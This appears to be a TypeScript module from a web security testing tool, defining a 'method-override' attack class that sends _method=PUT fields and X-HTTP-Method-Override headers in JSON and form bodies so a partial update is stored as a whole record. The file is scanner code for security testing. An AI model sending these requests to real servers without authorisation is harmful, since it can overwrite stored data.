import type { AttackClass } from '../attack.js';
import { member, jsonWith, pointerTo } from '../body/json-text.js';
import { asText } from '../body/form-text.js';

export const methodOverride: AttackClass = {
  name: 'method-override',
  source: 'method-override of Express, Rails and Symfony (_method, X-HTTP-Method-Override)',
  why: 'The method is changed after the check, so what was parsed as a change is stored as the whole record.',
  aim: 'body',
  json: (target) =>
    ['X-HTTP-Method-Override', 'X-Method-Override', 'X-HTTP-Method'].map((header) => ({
      body: jsonWith(target, member(target.key, target.wants), member('_method', 'PUT')),
      headers: { [header]: 'PUT' },
      pointer: pointerTo(target, '_method'),
    })),
  pairs: (target) => [
    {
      pairs: [
        ['_method', 'PUT'],
        [target.key, asText(target.wants)],
      ],
      pointer: '/_method',
    },
  ],
};
